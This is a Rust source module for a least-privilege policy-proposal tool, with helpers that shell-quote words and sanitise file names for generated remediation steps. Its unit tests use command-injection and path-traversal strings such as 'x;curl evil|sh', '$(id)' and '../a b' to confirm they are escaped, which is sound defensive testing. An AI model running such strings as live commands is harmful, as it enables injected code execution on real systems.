//! A right-sized policy in the vendor's own form, as a value: what a person puts in place of what an identity holds now.
//!
//! What may stay is decided elsewhere, on slices; a provider only says it in the vendor's language. Where that language
//! cannot say it exactly, the provider leaves it out and tells why: a proposal never grants more than what may stay.

use std::fmt::Write as _;
use std::sync::Arc;

use crate::access::{GrantIx, Slice};
use crate::evidence::Evidence;
use crate::id::IdentityId;
use crate::opset::OpSet;

/// A part of an identity's access that may stay.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct Kept {
    /// What may stay. Its scope has at most one list.
    pub slice: Slice,
    /// The slice of the present access that it is a part of.
    pub of: Slice,
}

/// A file to write.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct ProposedFile {
    /// Its name, without folders. [`is_proposed`] is true of it.
    pub name: String,
    /// What it holds.
    pub text: String,
}

/// A right-sized policy.
#[derive(Clone, PartialEq, Eq, Debug, Default)]
pub struct Proposal {
    /// The policy, in one file or several.
    pub files: Vec<ProposedFile>,
    /// What a person does to put it in place of the present policies, one step each, in their order.
    pub steps: Vec<String>,
    /// What the vendor's language cannot say exactly and the files therefore do not grant.
    pub left_out: Vec<LeftOut>,
    /// What has to be true of the identity before it may do what the files grant, and nothing that was read says so: as
    /// things stand those calls are refused.
    pub needs: Vec<String>,
    /// What else a person has to know of the files: what of the present policies they do not say, although nothing tells that
    /// it is no longer needed.
    pub notes: Vec<String>,
}

/// A part of what may stay that a proposal does not grant.
#[derive(Clone, PartialEq, Eq, Debug)]
pub struct LeftOut {
    /// The place in the list of what may stay.
    pub place: usize,
    /// The operations of it.
    pub operations: OpSet,
    /// Why.
    pub why: Arc<str>,
}

impl LeftOut {
    /// All of a part.
    pub fn whole(place: usize, part: &Kept, why: impl Into<Arc<str>>) -> Self {
        Self { place, operations: (*part.slice.operations).clone(), why: why.into() }
    }
}

/// A word of a shell command: as it is where a shell takes it as it is, else between quotes. Names in a capture are
/// whatever somebody wrote there, so each goes through here on its way into a step.
pub fn quoted(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | ':' | '@' | '+' | '=' | ',');
    match !text.is_empty() && text.chars().all(plain) {
        true => text.to_owned(),
        false => format!("'{}'", text.replace('\'', r"'\''")),
    }
}

/// A name as a part of a file's name: what no shell and no file system takes amiss, and of everything else its bytes, so that
/// two names stay two.
pub fn file_name(text: &str) -> String {
    let mut name = String::new();
    for c in text.chars() {
        if c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | '_' | '@') {
            name.push(c);
            continue;
        }
        for byte in c.encode_utf8(&mut [0; 4]).bytes() {
            let _ = write!(name, "={byte:02x}");
        }
    }
    name
}

/// The same for a part that others follow, parted from them by `_`.
pub fn file_name_part(text: &str) -> String {
    file_name(text).replace('_', "=5f")
}

/// What stands before the type of a proposed file, and before its number where there are several.
const ENDINGS: [&str; 4] = ["permissions", "policy", "rbac", "role"];

/// Whether a file is called as proposed files are: `role-x.policy.json`, `role-x.policy-2.json`.
pub fn is_proposed(name: &str) -> bool {
    let mut parts = name.rsplit('.');
    let (Some("json" | "yaml"), Some(ending), Some(stem)) = (parts.next(), parts.next(), parts.next()) else {
        return false;
    };
    let is_number = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    let word = ending.rsplit_once('-').filter(|(_, number)| is_number(number)).map_or(ending, |(word, _)| word);
    !stem.is_empty() && ENDINGS.contains(&word)
}

/// Why there is no proposal.
#[derive(Clone, PartialEq, Eq, Debug, thiserror::Error)]
#[error("no policy can be proposed: {reason}")]
pub struct NoProposal {
    /// Why not.
    pub reason: String,
    /// What to do instead.
    pub remedy: String,
}

/// Writes policies of one vendor.
pub trait Proposes {
    /// Whether a statement is part of what a proposal takes the place of, as opposed to one that stands elsewhere and goes
    /// on granting: a resource's own policy, or a binding of a group that everybody is in.
    fn is_replaced(&self, identity: &IdentityId, grant: GrantIx) -> bool;

    /// Whose policies hold a statement that this identity may use without holding it, as agents inherit of a blueprint:
    /// what is proposed for that identity takes the statement's place. `None` where no other identity holds it.
    fn lent_by(&self, _identity: &IdentityId, _grant: GrantIx) -> Option<IdentityId> {
        None
    }

    /// Who may use statements of this identity's policies without holding them: see [`Self::lent_by`].
    fn lends_to(&self, _identity: &IdentityId) -> Vec<IdentityId> {
        Vec::new()
    }

    /// The policy that grants what may stay, and nothing else. `apart` ends the names of its files and of the objects that
    /// they make, where those for another identity would have the same names; empty = they have not.
    ///
    /// # Errors
    /// When an identity's access is not in policies that people may change.
    fn propose(&self, identity: &IdentityId, kept: &[Kept], apart: &str) -> Result<Proposal, NoProposal>;

    /// The same for an identity that is described at a place, where a step may send people.
    ///
    /// # Errors
    /// As [`Self::propose`].
    fn propose_at(
        &self,
        identity: &IdentityId,
        _at: &Evidence,
        kept: &[Kept],
        apart: &str,
    ) -> Result<Proposal, NoProposal> {
        self.propose(identity, kept, apart)
    }

    /// The document that tells which operations an identity used, and how it is made; `None` where the vendor has none.
    fn evidence_of_use(&self, _identity: &IdentityId) -> Option<String> {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::{file_name, file_name_part, is_proposed, quoted};

    #[test]
    fn words_of_commands_are_one_word_to_a_shell() {
        for (text, word) in [
            ("arn:aws:iam::1:policy/a+b=c,d@e-f_g", "arn:aws:iam::1:policy/a+b=c,d@e-f_g"),
            ("a; rm 'b'", r"'a; rm '\''b'\'''"),
            ("x;curl evil|sh", "'x;curl evil|sh'"),
            ("$(id)", "'$(id)'"),
            ("a\nb", "'a\nb'"),
            ("", "''"),
        ] {
            assert_eq!(quoted(text), word);
        }
    }

    #[test]
    fn names_of_files_have_no_folders_and_nothing_that_a_shell_takes_amiss() {
        for (text, name) in [
            ("../a b", "..=2fa=20b"),
            ("my_agent", "my_agent"),
            ("my-agent", "my-agent"),
            ("a;b|c$(d)", "a=3bb=7cc=24=28d=29"),
            ("a=3b", "a=3d3b"),
            ("ä.json", "=c3=a4.json"),
        ] {
            assert_eq!(file_name(text), name);
        }
        assert_eq!((file_name_part("a_b"), file_name_part("a-b")), ("a=5fb".to_owned(), "a-b".to_owned()));
    }

    #[test]
    fn proposed_files_are_known_by_their_names_and_settings_of_agents_are_none() {
        for name in ["role-a.policy.json", "a.b.policy-12.json", "serviceaccount_a_b.rbac.yaml", "x.permissions.yaml"] {
            assert!(is_proposed(name), "{name}");
        }
        for name in [".mcp.json", "mcp.json", "role.json", ".policy.json", "a.policy.toml", "policy"] {
            assert!(!is_proposed(name), "{name}");
        }
        for name in ["a.policy-x.json", "a.policy-.json"] {
            assert!(!is_proposed(name), "{name}: no number");
        }
    }
}
